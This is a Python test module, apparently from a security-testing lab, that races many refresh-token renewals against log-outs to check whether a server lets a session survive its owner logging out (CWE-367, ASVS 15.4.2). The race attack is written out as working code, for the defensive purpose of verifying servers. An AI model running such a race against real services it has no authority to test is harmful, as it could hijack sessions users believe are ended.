"""Renew at the moment in which the owner logs out.

Exploits a server that reads a log-in, and writes it later: if it was ended between the two, the
renewal brings it back, and whoever was told to be logged out is not.
Source: CWE-367 Time-of-check Time-of-use Race Condition,
https://cwe.mitre.org/data/definitions/367.html
ASVS: 15.4.2
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, broke, got_in, refused
from attacks.lab.storms import must_serve_now, storm
from attacks.lab.target import NotApplicableError, Target
from attacks.lab.ways_out import log_out_request, must_log_out, tokens_in, use_of

ROUNDS, PAIRS = 5, 16


@attack()
def run(target: Target) -> Outcome:
    """Renew and end many log-ins at once, each one time; then use what the renewals gave."""
    owner = target.enrol()
    target.refresh_token_of(owner)
    must_log_out(target)
    for _ in range(ROUNDS):
        requests = []
        for _ in range(PAIRS):
            token = target.refresh_token_of(owner)
            requests += [target.refresh_request(token), log_out_request(target, token)]
        after = storm(requests, target.page())
        must_serve_now(after)
        if after.unserved:
            return broke(f"some of {PAIRS} renewals and log-outs at once are not served")
        won = tokens_in(after)
        if len(after.successes) - len(won) < PAIRS:
            raise NotApplicableError("some log-outs at once are refused")
        if use := use_of(target, won):
            return got_in(f"renewed while the owner logs out; {use}")
    return refused(f"{ROUNDS} times {PAIRS} renewals during a log-out: no token outlives it")
